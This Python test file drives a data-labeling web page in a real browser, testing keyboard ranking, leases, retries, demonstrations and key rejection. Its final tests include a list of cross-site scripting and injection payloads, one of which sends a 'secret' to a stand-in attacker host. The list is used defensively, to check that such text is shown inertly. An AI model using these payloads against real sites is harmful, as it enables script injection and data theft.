"""The labeling page in a real Chromium against the real routes and a real Redis."""

import time
from typing import TYPE_CHECKING

import pytest

from feedback import demonstrations, labels, leases
from feedback.records import Label

if TYPE_CHECKING:
    from playwright.sync_api import Page, Route

    from tests.serve.pages.conftest import Site, Watched

pytestmark = [pytest.mark.redis, pytest.mark.browser]
TEXTS = ["Bob lives in York.", "I do not know.", "Bob lives in Paris.", "Go away."]


def taken(site: "Site") -> list[Label]:
    return [label for _, label in labels.read(site.ledger)]


def wait_for_labels(site: "Site", count: int) -> list[Label]:
    deadline = time.monotonic() + 15
    while labels.count(site.ledger) < count:
        assert time.monotonic() < deadline, f"{labels.count(site.ledger)} of {count} labels"
        time.sleep(0.05)
    return taken(site)


def texts_on_screen(page: "Page") -> list[str]:
    found: list[str] = page.eval_on_selector_all(".card .text", "nodes => nodes.map(node => node.textContent)")
    return found


def press(page: "Page", *keys: str) -> None:
    for key in keys:
        page.keyboard.press(key)


def test_five_items_are_ranked_by_keyboard_alone(site: "Site", watched: "Watched") -> None:
    for number in range(5):
        site.comparison(TEXTS, prompt=f"Question {number}")
    page = watched.open(site, "/labeling", site.key("labeler", "ada"))
    expected = {}
    for number in range(5):
        page.wait_for_selector(f"#messages:has-text('Question {number}')")
        shown = texts_on_screen(page)
        assert sorted(shown) == sorted(TEXTS)
        # York first, then the honest one, Paris and rudeness tied last
        order = {TEXTS[0]: "1", TEXTS[1]: "2", TEXTS[2]: "3", TEXTS[3]: "3"}
        press(page, *[order[text] for text in shown], "Control+Enter")
        wait_for_labels(site, number + 1)
        expected[number] = [[0], [1], [2, 3]]
    page.wait_for_selector("#empty:not([hidden])")
    found = taken(site)
    assert [[sorted(group) for group in label.ranking] for label in found] == list(expected.values())
    assert {label.labeler for label in found} == {"ada"}
    assert {label.labeler_group for label in found} == {"training"}
    assert len({label.id for label in found}) == 5
    page.wait_for_selector("#tally:text-is('ada: 5 today, 5 in all')")


def test_keys_move_tie_undo_flag_and_rate(site: "Site", watched: "Watched") -> None:
    site.comparison(TEXTS)
    page = watched.open(site, "/labeling", site.key("labeler", "ada"))
    page.wait_for_selector(".card[aria-current=true]")
    current = "[...document.querySelectorAll('.card')].findIndex(c => c.getAttribute('aria-current') === 'true')"
    press(page, "j", "j", "k")
    assert page.evaluate(current) == 1
    press(page, "k", "k", "k")
    assert page.evaluate(current) == 0
    press(page, "2")
    assert page.evaluate(current) == 1, "after a rank the next open card is in focus"
    press(page, "0")
    assert page.locator("#order-strip").inner_text().split() == ["A", "B", "C", "D"]
    press(page, "0")
    assert "all bad" in page.locator("#order-strip").inner_text()
    press(page, "z", "z")
    assert page.locator("#order-strip").inner_text().split()[0] == "A"
    assert "not ranked" in page.locator("#order-strip").inner_text()
    press(page, "1", "3", "4")
    for _ in range(3):
        press(page, "k")
    for digit in (7, 6, 5, 4):
        press(page, f"Shift+Digit{digit}", "j")
    press(page, "h", "n")
    page.keyboard.type("D invents j k 1 2 3")
    shown = texts_on_screen(page)
    press(page, "Control+Enter")
    [label] = wait_for_labels(site, 1)
    canonical = [TEXTS.index(text) for text in shown]
    assert [group for [group] in label.ranking] == [canonical[1], canonical[0], canonical[2], canonical[3]]
    assert [label.quality[index] for index in canonical] == [7, 6, 5, 4]
    assert label.flags == {"hallucination": [canonical[3]]}
    assert label.note == "D invents j k 1 2 3"
    assert 0 < label.active_s < 60


def test_unfinished_ranking_is_not_sent_and_says_what_is_missing(site: "Site", watched: "Watched") -> None:
    site.comparison(TEXTS)
    page = watched.open(site, "/labeling", site.key("labeler", "ada"))
    page.wait_for_selector(".card[aria-current=true]")
    press(page, "1", "2", "Control+Enter")
    page.wait_for_selector(".toast")
    assert page.locator(".toast").inner_text() == "Still without a rank: C, D."
    assert taken(site) == []


def test_reload_keeps_the_item_its_lease_and_the_draft(site: "Site", watched: "Watched") -> None:
    for number in range(2):
        site.comparison(TEXTS, prompt=f"Question {number}")
    page = watched.open(site, "/labeling", site.key("labeler", "ada"))
    page.wait_for_selector(".card[aria-current=true]")
    before = texts_on_screen(page)
    press(page, "1", "2")
    page.reload()
    page.wait_for_selector(".card.ranked")
    assert "Question 0" in page.locator("#messages").inner_text()
    assert texts_on_screen(page) == before
    press(page, "j", "j", "3", "4", "Control+Enter")
    [label] = wait_for_labels(site, 1)
    assert [group for [group] in label.ranking] == [TEXTS.index(text) for text in before]


def test_skip_asks_for_a_reason_and_goes_on(site: "Site", watched: "Watched") -> None:
    first = site.comparison(TEXTS, prompt="Question 0")
    site.comparison(TEXTS, prompt="Question 1")
    page = watched.open(site, "/labeling", site.key("labeler", "ada"))
    page.wait_for_selector(".card[aria-current=true]")
    press(page, "s", "Escape")
    assert "Question 0" in page.locator("#messages").inner_text()
    press(page, "s", "3")
    page.wait_for_selector("#messages:has-text('Question 1')")
    assert leases.lease(site.ledger, "training", "bob").item_id == first.id  # type: ignore[union-attr]


def test_demonstration_is_written_and_sent_by_keyboard(site: "Site", watched: "Watched") -> None:
    prompt = site.demonstration_request()
    page = watched.open(site, "/labeling", site.key("labeler", "ada"))
    page.wait_for_selector("#empty:not([hidden])")
    page.select_option("#queue", "demonstration")
    page.wait_for_selector("#response:focus")
    page.keyboard.type("Bob lives in York, in a small house.")
    press(page, "Control+Enter")
    page.wait_for_selector("#empty:not([hidden])")
    [(_, found)] = list(demonstrations.read(site.ledger))
    assert (found.prompt_id, found.response) == (prompt.id, "Bob lives in York, in a small house.")


def test_submission_whose_answer_is_lost_on_the_way_is_sent_again_and_counts_once(
    site: "Site", watched: "Watched"
) -> None:
    site.comparison(TEXTS)
    page = watched.open(site, "/labeling", site.key("labeler", "ada"))
    page.wait_for_selector(".card[aria-current=true]")
    submits = 0

    def break_the_line(route: "Route") -> None:
        nonlocal submits
        submits += 1
        if submits == 1:  # never arrives
            route.abort()
        elif submits == 2:  # arrives, and its answer does not come back
            assert route.fetch().status == 200
            route.abort()
        else:
            route.continue_()

    page.route("**/submit", break_the_line)
    press(page, "1", "1", "2", "2", "Control+Enter")
    page.wait_for_selector("#saved:has-text('not stored yet')")
    page.wait_for_selector("#empty:not([hidden])")
    assert submits == 3
    assert len(taken(site)) == 1


def test_lost_lease_is_told_and_the_draft_waits_for_the_item(site: "Site", watched: "Watched") -> None:
    comparison = site.comparison(TEXTS)
    page = watched.open(site, "/labeling", site.key("labeler", "ada"))
    page.wait_for_selector(".card[aria-current=true]")
    press(page, "1", "2", "3", "4")
    later = time.time() + 10_000
    assert leases.expire(site.ledger, now=lambda: later) == 1
    press(page, "Control+Enter")
    page.wait_for_selector(".toast.bad")
    # the item is open again and comes back to the same person, with the draft
    page.locator(".card.ranked").nth(3).wait_for()
    press(page, "Control+Enter")
    [label] = wait_for_labels(site, 1)
    assert label.comparison_id == comparison.id


HOSTILE = [
    "<script>window.hit = 1; alert(1)</script>",
    "<img src=x onerror='window.hit = 1; alert(1)'>",
    "<svg/onload=alert(1)>",
    "[x](javascript:alert(1)) ![x](http://attacker.invalid/?q=secret)",
    "</textarea></p><iframe src='javascript:alert(1)'></iframe>",
    "{{ 7*7 }} ${alert(1)} \u202egnp.exe <b>bold</b>",
]


def test_hostile_text_is_shown_as_text_and_does_nothing(site: "Site", watched: "Watched") -> None:
    site.comparison(HOSTILE, prompt=" ".join(HOSTILE))
    outside: list[str] = []
    watched.page.on("request", lambda request: outside.append(request.url))
    page = watched.open(site, "/labeling", site.key("labeler", "<img src=x onerror=alert(1)>"))
    page.wait_for_selector(".card[aria-current=true]")
    assert sorted(texts_on_screen(page)) == sorted(HOSTILE)
    assert page.locator("#messages .text").text_content() == " ".join(HOSTILE)
    page.wait_for_timeout(300)
    assert page.evaluate("window.hit") is None
    assert page.locator("#app script, #app img, #app iframe, #app svg, #app b:not(.group b), #app a").count() == 0
    assert [url for url in outside if not url.startswith(site.url)] == []


def test_wrong_key_is_refused_in_words_and_not_kept(site: "Site", watched: "Watched") -> None:
    page = watched.page
    for secret, words in (("ws-labeler-nobody", "no such API key"), (site.key("client", "acme"), "role labeler")):
        page.goto(f"{site.url}/labeling")
        page.wait_for_selector("#key:focus")
        page.keyboard.type(secret)
        page.keyboard.press("Enter")
        page.wait_for_selector(f"#sign-in-error:has-text('{words}')")
        assert page.evaluate("sessionStorage.length") == 0
        assert page.locator("#app").is_hidden()
